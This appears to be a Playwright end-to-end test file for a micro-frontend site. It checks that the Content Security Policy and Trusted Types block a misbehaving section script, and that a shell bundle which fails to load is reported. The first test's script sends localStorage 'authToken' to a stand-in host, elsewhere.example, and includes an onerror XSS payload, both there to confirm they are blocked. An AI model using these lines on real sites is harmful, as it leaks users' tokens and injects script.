import { waitTimeout } from '@keur/config/timeouts'
import type { BuildHealthList } from '@keur/contract/releases'
import { publishCopy } from '../support/published-copy.ts'
import { fromApi } from '../support/site.ts'
import { readPointer } from '../support/stored-build.ts'
import { expect, test } from '../support/test.ts'

test('what a section does against the policy is blocked, what it throws in a handler changes nothing and counts for its build', async ({
  page,
  watch
}) => {
  watch.allow(/Content Security Policy/i, /TrustedHTML|TrustedTypePolicy|Policy .* disallowed/i, /elsewhere\.example/)
  watch.allow(/panne d’un bouton/)
  const { id, undo } = await publishCopy({
    script: `
      new Image().src = 'https://elsewhere.example/?' + (localStorage.getItem('authToken') ?? 'none')
      const tries = [
        () => trustedTypes.createPolicy('ventes', { createHTML: (text) => text }),
        () => trustedTypes.createPolicy('default', { createHTML: (text) => text }),
        () => { document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>' }
      ]
      self.blocked = tries.filter((attempt) => { try { attempt() } catch { return true } }).length
      addEventListener('click', () => { throw new Error('panne d’un bouton') })`
  })
  try {
    await page.goto('/ventes')
    expect(await page.evaluate(() => Reflect.get(window, 'blocked'))).toBe(3)
    const search = page.getByRole('searchbox').or(page.getByRole('combobox')).first()
    await search.fill('Thiès')
    await search.click()
    await expect(search).toHaveValue('Thiès')
    const errors = async () => {
      const { verdicts } = await fromApi<BuildHealthList>('/builds/verdicts')
      const found = verdicts.find(({ remote }) => remote === 'ventes')?.lastMonth?.find(({ build }) => build === id)
      return found?.errors
    }
    // The API sums up every fifteen seconds.
    await expect.poll(errors, { timeout: 2 * waitTimeout, intervals: [500] }).toBe(1)
    expect((await page.context().cookies()).some(({ name }) => name === 'keur_aside')).toBe(false)
  } finally {
    await undo()
  }
})

test('a shell that does not start is reported, and the next document has another one where there is one', async ({
  page,
  watch
}) => {
  watch.allow(/\/mfe\/shell\//, /Failed to load resource/)
  const { current } = await readPointer('shell')
  await page.route(/\/mfe\/shell\/.*\.js$/, (route) => route.abort())
  const reported = page.waitForRequest('**/api/builds/reports')
  await page.goto('/contact', { waitUntil: 'load' })
  await reported
  await expect
    .poll(async () => (await page.context().cookies()).find(({ name }) => name === 'keur_aside')?.value)
    .toBe(`shell:${current}`)
  // the page can still be read
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
})
